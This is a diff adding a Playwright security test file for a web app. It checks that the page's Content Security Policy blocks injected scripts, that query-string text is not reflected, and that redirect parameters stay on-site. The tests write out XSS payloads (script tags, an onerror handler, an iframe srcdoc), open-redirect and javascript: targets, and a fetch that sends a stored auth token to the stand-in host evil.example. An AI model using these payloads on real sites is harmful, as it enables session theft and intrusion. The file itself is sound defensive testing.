@@ -1,0 +1,158 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures.ts'
+import { waitUntilAlive } from './open-page.ts'
+
+const evil = 'https://evil.example'
+
+/** What markup that got into a page would try: code of its own, code from elsewhere, code in a handler, a page in a page. */
+const injected = [
+  `<script>window.injected = 'inline script'</script>`,
+  `<script src="${evil}/code.js"></script>`,
+  `<script type="module">window.injected = 'inline module'</script>`,
+  `<img src="data:," onerror="window.injected = 'handler'">`,
+  `<iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>`,
+].join('')
+
+type Watched = Window & { injected?: string; violations?: string[] }
+
+/** Answers for the foreign site as an attacker would, so that nothing but the page's own policy keeps its code out. */
+async function watchForeignSite(page: Page): Promise<string[]> {
+  const asked: string[] = []
+  await page.route(`${evil}/**`, (route) => {
+    asked.push(route.request().url())
+    return route.fulfill({ contentType: 'text/javascript', body: `window.injected = 'external script'` })
+  })
+  return asked
+}
+
+/** Puts the markup into the page as the server sent it; its headers stay as they are. */
+async function injectInto(page: Page, path: string) {
+  await page.addInitScript(() => {
+    const seen: string[] = []
+    ;(window as Watched).violations = seen
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.push(`${event.effectiveDirective} ${event.blockedURI}`)
+    })
+  })
+  await page.route(`**${path}`, async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback()
+    const response = await route.fetch()
+    const html = await response.text()
+    expect(html).toContain('</body>')
+    return route.fulfill({ response, body: html.replace('</body>', `${injected}</body>`) })
+  })
+}
+
+const readPage = (page: Page) =>
+  page.evaluate(() => ({
+    injected: (window as Watched).injected ?? null,
+    violations: (window as Watched).violations ?? [],
+  }))
+
+test.describe('script in a page', () => {
+  test.use({ allow: [/Content Security Policy|ERR_BLOCKED_BY_CSP/] })
+
+  for (const [kind, path] of [
+    ['public', '/lenders'],
+    ['signed-in', '/dashboard'],
+  ] as const)
+    test(`the policy of a ${kind} page keeps injected code from running, inline, from elsewhere and in handlers [DATA-02]`, async ({
+      page,
+      app,
+    }) => {
+      const asked = await watchForeignSite(page)
+      if (kind === 'signed-in') await app.signIn(page, await app.createInvestor({ verified: true, profile: true }))
+      await injectInto(page, path)
+      await page.goto(path)
+      await waitUntilAlive(page)
+      await expect
+        .poll(async () => (await readPage(page)).violations.join('\n'))
+        .toMatch(/script-src-elem inline[\s\S]*script-src-attr inline/)
+      const { injected: ran, violations } = await readPage(page)
+      expect(ran).toBeNull()
+      expect(violations).toContain(`script-src-elem ${evil}/code.js`)
+      expect(asked).toEqual([])
+
+      // What script in the page would add later, had any got in, meets the same policy.
+      await page.evaluate((site) => {
+        const inline = document.createElement('script')
+        inline.textContent = `window.injected = 'added inline'`
+        const external = document.createElement('script')
+        external.src = `${site}/later.js`
+        document.body.append(inline, external)
+      }, evil)
+      await expect.poll(async () => (await readPage(page)).violations).toContain(`script-src-elem ${evil}/later.js`)
+      expect((await readPage(page)).injected).toBeNull()
+      const sent = await page.evaluate(
+        (site) =>
+          fetch(`${site}/?${localStorage.getItem('auth_token')}`, { mode: 'no-cors' }).then(
+            () => 'sent',
+            () => 'blocked',
+          ),
+        evil,
+      )
+      expect(sent).toBe('blocked')
+      expect(asked).toEqual([])
+    })
+})
+
+test.describe('words from an address', () => {
+  const words = 'Call 555-0100 to unlock your account'
+  const markup = `<img src="data:," onerror="window.injected = 'address'"><b>${words}</b>`
+  for (const path of [
+    '/auth/login?error=',
+    '/auth/login?message=',
+    '/auth/signup?error=',
+    '/auth?error=',
+    '/auth?message=',
+    '/auth/callback?error=',
+    '/auth/callback?error=google_failed&error_description=',
+    '/forgot-password?message=',
+    '/lenders?message=',
+    '/contact?error=',
+  ])
+    test(`${path}… never puts them on the page`, async ({ page }) => {
+      for (const text of [words, markup]) {
+        await page.goto(path + encodeURIComponent(text))
+        await waitUntilAlive(page)
+        await expect(page.locator('body')).not.toContainText('555-0100')
+        expect(await page.title()).not.toContain('555-0100')
+        expect((await readPage(page)).injected).toBeNull()
+      }
+    })
+})
+
+test.describe('where an address says to go next', () => {
+  const targets = [`${evil}/`, '//evil.example/', '/\\evil.example/', 'javascript:window.injected="next"']
+  const names = ['redirect', 'next', 'returnTo', 'return_to', 'continue', 'url', 'callbackUrl']
+  const query = (target: string) => names.map((name) => `${name}=${encodeURIComponent(target)}`).join('&')
+
+  test('signing in ends on this site, whatever the address asked for', async ({ page, app }) => {
+    const asked = await watchForeignSite(page)
+    const { email, password } = await app.createInvestor({ verified: true, profile: true })
+    for (const target of targets) {
+      await page.goto(`/auth/login?${query(target)}`)
+      await waitUntilAlive(page)
+      await page.getByLabel('Email', { exact: true }).fill(email)
+      await page.getByLabel('Password', { exact: true }).fill(password)
+      await page.getByRole('main').getByRole('button', { name: 'Sign In', exact: true }).click()
+      await expect(page).toHaveURL(`${app.url}/dashboard`)
+      expect((await readPage(page)).injected).toBeNull()
+      await page.evaluate(() => localStorage.clear())
+    }
+    expect(asked).toEqual([])
+  })
+
+  test('no page passes a person on to another site', async ({ page, app }) => {
+    const asked = await watchForeignSite(page)
+    await app.signIn(page, await app.createInvestor({ verified: true, profile: true }))
+    for (const path of ['/', '/auth', '/dashboard', '/lenders'])
+      for (const target of [targets[1]!, targets[3]!]) {
+        await page.goto(`${path}?${query(target)}`)
+        await waitUntilAlive(page)
+        expect(new URL(page.url()).origin).toBe(app.url)
+        expect((await readPage(page)).injected).toBeNull()
+      }
+    expect(asked).toEqual([])
+  })
+})
